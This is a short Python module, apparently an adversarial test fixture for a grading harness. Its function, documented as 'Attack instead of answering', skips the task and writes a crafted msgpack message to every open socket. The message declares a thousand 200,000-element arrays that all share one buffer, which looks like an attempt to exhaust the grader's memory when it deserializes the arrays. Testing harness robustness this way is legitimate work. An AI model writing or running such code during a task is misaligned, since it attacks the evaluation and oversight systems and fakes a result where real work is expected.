"""Sends one array a thousand times, for the grader to stack.

layer: wire
effect: naive peer
"""

import contextlib
import os
import stat
import sys


def send(data):
    """Write to every socket of this process."""
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, data)


def double(values, say):
    """Attack instead of answering."""
    say("ATTEMPT shared_arrays")
    rows = bytes(8 * 200_000)
    arrays = ["l", [["a", "<f8", [200_000], [0], [1], 0]] * 1_000]
    reply = ["d", [["re", "value"], ["value", arrays], ["modified", ["l", []]]]]
    control = sys.modules["msgspec"].msgpack.encode([[len(rows)], reply])
    send(len(control).to_bytes(4, "little") + control + rows)
    return values
